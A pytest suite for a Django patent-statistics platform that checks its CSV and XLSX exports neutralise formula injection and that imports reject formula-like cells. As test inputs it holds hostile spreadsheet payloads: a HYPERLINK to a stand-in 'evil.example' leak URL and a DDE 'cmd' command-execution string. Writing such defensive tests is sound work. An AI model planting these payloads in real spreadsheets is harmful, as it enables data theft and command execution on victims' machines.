"""Every spreadsheet and CSV the platform writes keeps formula-looking text as text (issue 12, defect 4): a title,
applicant, plan wording or rejected cell beginning with = + - @ (or tab / CR) comes out with a leading apostrophe,
and no cell of an XLSX is a formula. Each writer is read back with openpyxl (or the csv module)."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from zhichan.core import spreadsheet
from zhichan.core.models import Region

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","点我")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1",
           "\r=1+1"]


def cells(book):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_safe(book, *expected: str) -> None:
    """No formula anywhere; every text cell that looks like one starts with an apostrophe; `expected` are there."""
    values = []
    for cell in cells(book):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(spreadsheet.FORMULA_STARTS), (cell.coordinate, cell.value)
            values.append(cell.value.replace("_x000D_", "\r"))  # how openpyxl reads a CR back
    for text in expected:
        assert any(("'" + text) in v for v in values), (text, values)


def test_the_shared_helper():
    assert [spreadsheet.neutralise(v) for v in [*HOSTILE, "a=1", "", "一种方法", 5, -3.5, None]] == \
        ["'" + v for v in HOSTILE] + ["a=1", "", "一种方法", 5, -3.5, None]
    assert spreadsheet.neutralise("'=1") == "'=1"  # already neutral: not doubled
    buffer = io.StringIO()
    spreadsheet.csv_writer(buffer).writerows([["=1+1", "ok", 7], ["@x", "-2", -2]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "ok", "7"], ["'@x", "'-2", "-2"]]
    out = io.BytesIO()
    book = spreadsheet.workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write(0, 0, "=1+1")  # even an unneutralised string is stored as a string, never a formula
    spreadsheet.write_row(sheet, 1, 0, HOSTILE)
    book.close()
    written = load_workbook(io.BytesIO(out.getvalue()))
    assert written.active["A1"].value == "=1+1" and written.active["A1"].data_type == "s"
    assert [c.value.replace("_x000D_", "\r") for c in written.active[2]] == ["'" + v for v in HOSTILE]


@pytest.mark.django_db
def test_search_export_csv_and_xlsx(tmp_path):
    from zhichan.search import export

    rows = [["CN1", text, *[""] * (len(export.COLUMNS) - 2)] for text in HOSTILE]
    export.write_rows(tmp_path / "r.csv", "csv", iter(rows))
    read = list(csv.reader((tmp_path / "r.csv").open(encoding="utf-8-sig", newline="")))
    assert [r[1] for r in read[1:]] == ["'" + v for v in HOSTILE]
    export.write_rows(tmp_path / "r.xlsx", "xlsx", iter(rows))
    assert_safe(load_workbook(tmp_path / "r.xlsx"), *HOSTILE)


CSV_HEADER = "申请号,标题,申请日,申请人,国际分类"


def _import(tmp_path, lines: list[str], name: str = "hostile.csv"):
    from zhichan.patents.actions import do_import_patents

    path = tmp_path / name
    path.write_text("\n".join([CSV_HEADER, *lines]) + "\n", encoding="utf-8")
    return do_import_patents(None, [path])


@pytest.mark.django_db
def test_navigation_report_xlsx(tmp_path):
    from zhichan.navigation import report

    _import(tmp_path, ['CN202210836006.7,=1+1,2022/07/15,"=HYPERLINK(""http://evil.example/"")",G06F 16/583',
                       "CN202210344028.1,@SUM(A1:A2),2022/03/31,-2+3 科技有限公司,G06F 16/00"])
    path = report.write_query("IPC=G06F", "xlsx")
    book = load_workbook(path)
    assert_safe(book, '=HYPERLINK("HTTP://EVIL.EXAMPLE/")', "-2+3 科技有限公司")  # applicant names, normalised


@pytest.mark.django_db
def test_rejected_rows_xlsx(tmp_path, client, django_user_model):
    from zhichan.patents.models import ImportFile

    _import(tmp_path, ["CN202210836006.7,一种方法,2022/07/15,甲,G06F 16/583",
                       "=1+1,坏行,2022/07/15,乙,G06F 16/00",
                       "CN202210344028.1,日期坏,=HYPERLINK(1),丙,G06F 16/00"])
    import_file = ImportFile.objects.get()
    assert import_file.counts["rejected"] == 2
    client.force_login(django_user_model.objects.create_user("office", password="x", role="office"))
    response = client.get(f"/patents/imports/{import_file.pk}/rejected.xlsx")
    assert response.status_code == 200
    assert_safe(load_workbook(io.BytesIO(response.content)), "=1+1", "=HYPERLINK(1)")


@pytest.mark.django_db
def test_indicator_plan_export(tmp_path):
    from zhichan.indicators import plans, plans_io

    plan = plans.load_templates()[0]
    item = plan.items.first()
    item.wording = "=HYPERLINK(\"http://evil.example/\")"
    item.save()
    target = item.targets.first()
    target.text = "@SUM(A1:A2)"
    target.save()
    book = load_workbook(plans_io.export(plan, tmp_path / "plan.xlsx"))
    assert_safe(book, item.wording, target.text)


@pytest.mark.django_db
def test_indicator_report_xlsx(tmp_path):
    from zhichan.indicators import reports

    region = SimpleNamespace(name="=1+1 区")
    figure = SimpleNamespace(value=3.0)
    status = next(iter(reports.progress.LABELS))
    item = SimpleNamespace(indicator=SimpleNamespace(name_zh="+有效发明专利", unit="件"), wording="=HYPERLINK(\"x\")",
                           target_kind="absolute", baseline_year=None, baseline_value=None)
    plan = SimpleNamespace(name="@规划", region=SimpleNamespace(name="-泉山区"))
    data = SimpleNamespace(columns=[SimpleNamespace(name_zh="-指标", unit="件")], rows=[(region, [figure, None])],
                           plans=[SimpleNamespace(plan=plan, items=[SimpleNamespace(
                               item=item, target=None, target_value=None, milestone="", latest=None,
                               assessed=SimpleNamespace(status=status))])])
    book = load_workbook(reports.xlsx(data, tmp_path / "report.xlsx"))
    assert_safe(book, "=1+1 区", "+有效发明专利", '=HYPERLINK("x")', "-指标（件）", "@规划", "-泉山区")


@pytest.mark.django_db
def test_public_statistics_csv(client, monkeypatch):
    from zhichan.indicators import public

    city = Region.objects.filter(level=2).first()
    monkeypatch.setattr(public, "latest", lambda c: {
        "indicators": [{"code": "x", "name": "=1+1", "unit": "件"}],
        "rows": [{"code": city.code, "name": "@evil", "values": {"x": -2.0}}]})
    response = client.get("/public/statistics/", {"city": city.code, "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["地区代码", "地区", "'=1+1（件）"], [city.code, "'@evil", "-2"]]  # a number stays a number


@pytest.mark.parametrize(("cell", "formula"), [
    ("=HYPERLINK(\"http://x\")", True), ("@SUM(A1)", True), ("-2+3+cmd|' /C calc'!A0", True), ("+cmd", True),
    ("  =1+1", True), ("-", False), ("-1", False), ("- 5", False), ("+86 516 8388 1234", False), ("张三", False),
])
def test_an_imported_cell_that_would_run_as_a_formula(cell, formula):
    """The one rule the registry, 存量专利 and 人才清单 imports refuse cells by."""
    from zhichan.core.spreadsheet import looks_like_formula

    assert looks_like_formula(cell) is formula
